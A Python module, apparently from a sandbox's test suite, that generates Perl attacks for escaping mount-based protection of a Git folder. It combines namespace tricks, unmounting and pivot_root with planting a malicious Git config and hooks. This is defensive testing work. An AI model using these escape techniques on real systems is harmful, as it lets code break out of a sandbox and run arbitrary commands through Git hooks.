"""Attacks that get rid of the mounts over what is protected, put together from their parts.

A seal is a mount point, and the kernel keeps a mount point from being renamed or replaced only in the mount namespace
of the caller (mount_namespaces(7)). So an attack enters a namespace, has the mounts let go there, and plants through a
foot that it kept in the Git folder. Each part is a line of Perl; the words that it uses are in attacks.pl.
"""

import itertools
import platform
from typing import NamedTuple

from machine_code import X32, call_32, call_64, program
from wall_box import CODE

TOOLS = "/tmp/attacks.pl"
NEW = "my $n = \"/tmp/n$$\"; mkdir $n; mount_('tmpfs', $n, 'tmpfs', 0); mkdir \"$n/$_\" for qw(w o); "
NOT_SHARED = "forget(); "
BESIDE = "my $place = call('openat', $PROC, path(\"$HOLDER/{}\"), 0, 0); plant_at($place);"

# How the attacker holds on to the Git folder: before the act, and what is planted through it afterwards.
FEET = {
    "in the Git folder": ('chdir "$T/.git"; ', "plant_at(folder('.'));"),
    "at the top": ("chdir $T; ", "plant('.git');"),
    "with a descriptor": ("$FD = folder(\"$T/.git\"); chdir '/'; ", "plant_at($FD);"),
    "with one of the top": ("$FD = folder($T); chdir '/'; ", "replace_git($FD);"),
    "with one for io_uring": ("$FD = folder(\"$T/.git\"); chdir '/'; ", "plant_by_ring($FD);"),
    "by the root of a process": ("stay_behind(); chdir '/'; ", BESIDE.format("root$T/.git")),
    "with none": ("chdir '/'; ", 'plant("$T/.git"); replace_git(folder($T));'),
}
OWN_FEET = tuple(FEET)[:5]
ALL_FEET = tuple(FEET)[:6]  # without a foot nobody gets in

# The acts that make the mounts go. An unmounting one needs a namespace whose mounts came from an equally privileged
# one; a pivoting one does not, and cannot be done where the mounts propagate to peers. The others do not succeed on any
# kernel known today, or not on one of the tests: they are there for the next one.
UNMOUNTING = {
    "umount -l": "umount($W);",
    "umount2 with other flags": "umount($W, $_) for 0, 1, 4, 4, 8, 12, 3, 6, 10;",
    "umount2 by a 32-bit call": "system '/tmp/umount2-32';",
    "MS_MOVE": f'{NEW}{NOT_SHARED}mount_($W, "$n/w", "", MOVE); umount($n);',
    "move_mount": f"{NEW}{NOT_SHARED}call('move_mount', AT, path($W), AT, path(\"$n/w\"), 0); umount($n);",
    "open_tree": (
        f"{NEW}{NOT_SHARED}my $tree = call('open_tree', AT, path($W), 0); "
        "call('move_mount', $tree, path(''), AT, path(\"$n/w\"), 4); umount($n);"
    ),
}
PIVOTING = {
    "pivot_root": f"{NEW}call('pivot_root', path($n), path(\"$n/o\")); umount('/o');",
    "fsmount": (
        "mkdir '/tmp/f'; my $fs = call('fsopen', path('tmpfs'), 0); call('fsconfig', $fs, 6, 0, 0, 0); "
        "my $m = call('fsmount', $fs, 0, 0); call('move_mount', $m, path(''), AT, path('/tmp/f'), 4); "
        "mkdir '/tmp/f/o'; call('pivot_root', path('/tmp/f'), path('/tmp/f/o')); umount('/o');"
    ),
}
FUTILE = {
    "umount -l of all": "umount('/');",  # the root of a namespace stays
    "umount -l of the parts": 'umount("$T/.git/$_") for qw(config hooks info .); umount("$T/.git");',  # locked
    "umount by a 32-bit call": "system '/tmp/umount-32';",  # not lazily: it is in use
    "umount2 by an x32 call": "system '/tmp/umount2-x32';",  # few kernels have them
    "a copy of the tree": (
        "my $tree = call('open_tree', AT, path($W), 0x8001); plant_at(call('openat', $tree, path('.git'), 0, 0)); "
        "POSIX::close($tree);"
    ),
    "nothing": "",
}
WAYS = {**UNMOUNTING, **PIVOTING, **FUTILE}


class Namespace(NamedTuple):
    """Where the act is done; `falls` says to which acts and feet of which user, where no call is denied."""

    code: str  # FOOT, ACT and PLANT stand for the other parts
    user: int = 0
    acts: frozenset = frozenset((*UNMOUNTING, *PIVOTING))
    feet: tuple = ALL_FEET


LATER = 'my $p = beside(sub {{ {} ACT }}); my @in = map {{ folder("/proc/$p/ns/$_") }} qw({}); '
NAMESPACES = {
    "the first": Namespace("FOOT ACT PLANT", feet=tuple(foot for foot in ALL_FEET if "root of" not in foot)),
    "a new one": Namespace("FOOT unshare(); ACT PLANT"),
    "a private one": Namespace("FOOT unshare(); forget(); ACT PLANT"),
    "one by clone": Namespace("FOOT cloned(NEWNS); ACT PLANT"),
    "one with many ids": Namespace("new_user(1); FOOT unshare(); ACT PLANT", acts=frozenset(PIVOTING)),
    "one that it joins": Namespace(
        f"FOOT {LATER.format('unshare(); forget();', 'mnt')} call('setns', $_, 0) for @in; PLANT", feet=ALL_FEET[2:]
    ),
    "one by a 32-bit call": Namespace(
        "FOOT $ENV{REST} = q{ACT PLANT}; @ENV{qw(T RUN FD HOLDER)} = ($T, $RUN, $FD, $HOLDER); exec '/tmp/unshare-32';",
        feet=ALL_FEET,
    ),
    # By these the code user becomes root of its own, without sudo.
    "one of a user namespace": Namespace("new_user(); FOOT unshare(); ACT PLANT", CODE, frozenset(PIVOTING)),
    "a user's that it joins": Namespace(
        f"FOOT {LATER.format('new_user(); unshare();', 'user mnt')} call('setns', $_, 0) for @in; PLANT",
        CODE,
        frozenset(PIVOTING),
        OWN_FEET[2:],
    ),
}


class Attack(NamedTuple):
    """One attack, as Perl."""

    name: str
    code: str
    falls: frozenset  # the users who succeed where the seals are there and no system call is denied


def put_together(namespaces=tuple(NAMESPACES), ways=tuple(WAYS), feet=tuple(FEET)):
    """Attacks in each of the namespaces, in each of the ways, from each of the feet."""
    for where, foot, way in itertools.product(namespaces, feet, ways):
        before, after = FEET[foot]
        namespace = NAMESPACES[where]
        code = namespace.code.replace("FOOT", before).replace("ACT", WAYS[way]).replace("PLANT", after)
        falls = {namespace.user} if way in namespace.acts and foot in namespace.feet else ()
        yield Attack(f"{way}, {foot}, in {where}", code, frozenset(falls))


def selection():
    """Each part at least once beside parts that make an attack of it: what a run of CI can bear."""
    found = [
        *put_together(["the first"], feet=["in the Git folder", "with a descriptor"]),
        *put_together(["a private one", "one of a user namespace"], ["umount -l", "pivot_root"]),
        *put_together(ways=["umount -l", "pivot_root"], feet=["with a descriptor"]),
    ]
    return list({attack.name: attack for attack in found}.values())


# Each is Perl that plants without leaving its namespace, with the users who succeed by it where nothing is sealed. To
# mount something takes root.
EVERYBODY, ROOT, NOBODY = frozenset({0, CODE}), frozenset({0}), frozenset()
HERE = 'my $g = folder("$T/.git"); put($g, "evil", 0644, configuration()); '
AT_ONCE = {
    "rename": (EVERYBODY, 'plant("$T/.git");'),
    "rename of the Git folder": (EVERYBODY, "replace_git(folder($T));"),
    "io_uring": (EVERYBODY, 'plant_by_ring(folder("$T/.git"));'),
    "exchange": (EVERYBODY, f"{HERE}rename_at($g, 'evil', $g, 'config', EXCHANGE);"),
    "rmdir and mkdir": (
        EVERYBODY,
        'my $g = folder("$T/.git"); call("unlinkat", $g, path("hooks"), 0x200); '
        'call("mkdirat", $g, path("hooks"), 0755); put($g, "config", 0644, configuration()); '
        'put($g, "hooks/$_", 0755, hook()) for qw(post-index-change reference-transaction);',
    ),
    "bind": (ROOT, f'{NEW}mount_($W, "$n/w", "", BIND); plant("$n/w" . substr($T, length $W) . "/.git");'),
    "rbind": (
        ROOT,
        f"{NEW}mount_('/', \"$n/w\", '', BIND | REC); forget(\"$n/w\"); "
        'umount("$n/w$T/.git/$_") for qw(config hooks .); plant("$n/w$T/.git");',
    ),
    # The kernel opens one only by a mount with nothing locked in it, and only what lies below that.
    "file handles": (
        NOBODY,
        'for my $name (".git", ".git/hooks", ".git/config") { my $handle = pack("II", 128, 0) . "\\0" x 128; '
        'my $mount = pack("i", 0); call("name_to_handle_at", AT, path("$T/$name"), $handle, $mount, 0); '
        'for my $by (folder("/"), folder($W), folder("$T/src"), folder("$T/.git"), folder("$T/.git/refs")) { '
        'my $at = call("open_by_handle_at", $by, $handle, 0); next if $at < 0; plant_at($at); '
        'put($at, "reference-transaction", 0755, hook()); '
        'my $file = call("open_by_handle_at", $by, $handle, 02001); my $text = configuration(); '
        "POSIX::write($file, $text, length $text) if $file >= 0 } }",
    ),
}


def at_once():
    """The attacks that need no namespace; `falls` is for where nothing is sealed."""
    return [Attack(name, code, users) for name, (users, code) in AT_ONCE.items()]


def programs():
    """The machine code that the attacks call, by its path in the container."""
    if platform.machine() != "x86_64":
        return {}
    rest = f'exec perl {TOOLS} "$REST"'
    return {
        "/tmp/umount2-32": program([(call_32, 52, ("/workspace", 2))], "exit"),
        "/tmp/umount-32": program([(call_32, 22, ("/workspace",))], "exit"),
        "/tmp/umount2-x32": program([(call_64, X32 | 166, ("/workspace", 2))], "exit"),
        "/tmp/unshare-32": program([(call_32, 310, (0x20000,))], rest),
    }
